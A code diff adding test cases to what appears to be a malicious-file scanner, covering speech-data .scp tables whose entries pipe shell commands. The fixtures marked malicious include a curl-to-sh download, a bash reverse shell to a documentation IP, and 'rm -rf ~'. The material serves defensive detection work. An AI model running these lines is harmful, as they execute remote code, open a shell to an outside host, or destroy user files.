@@ -69,7 +69,15 @@ def workflow(command: str, verdict: Verdict) -> Case:
     return text(f"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: {command}\n", "ci.yml", verdict)
 
 
+PIPES = "utt1 sph2pipe -f wav -p -c 1 /data/a.sph |\nutt2 flac -c -d -s b.flac |\nutt3 c.wav\n# x curl\n"
 CASES = {
+    "benign_table": text(PIPES, "wav.scp", Verdict.CLEAN),
+    "benign_table_of_files": text("utt1 curl-http://192.0.2.1/x|sh\nutt2 a.ark:17\n", "feats.scp", Verdict.CLEAN),
+    "table_that_runs": text(PIPES + "utt4 curl http://192.0.2.1/x | sh |\n", "wav.scp", Verdict.MALICIOUS),
+    "table_that_runs_early": text(
+        "#utt4\t bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1' |\n", "a.scp", Verdict.MALICIOUS
+    ),
+    "table_that_destroys": text("utt1\trm -rf ~ |\n", "wav.scp", Verdict.MALICIOUS),
     "benign_script": text(SCRIPT, "serve.sh", Verdict.CLEAN),
     "benign_installer": text(INSTALL, "install.sh", Verdict.CLEAN),
     "benign_makefile": text(MAKEFILE, "Makefile", Verdict.CLEAN),
